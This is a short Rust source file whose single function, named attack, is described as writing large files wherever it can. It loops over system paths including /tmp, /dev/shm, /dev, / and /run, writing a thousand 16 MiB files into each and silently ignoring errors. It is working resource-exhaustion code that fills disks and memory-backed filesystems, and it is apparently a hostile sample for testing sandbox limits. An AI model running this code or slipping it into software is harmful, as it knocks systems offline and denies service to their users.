//! Writes large files wherever it may.

fn attack() {
    let much = vec![1_u8; 1 << 24];
    for folder in ["/tmp", "/var/tmp", "/dev/shm", "/dev", "/", ".", "/run"] {
        for k in 0..1000 {
            let _ = std::fs::write(format!("{folder}/filled-{k}"), &much);
        }
    }
}
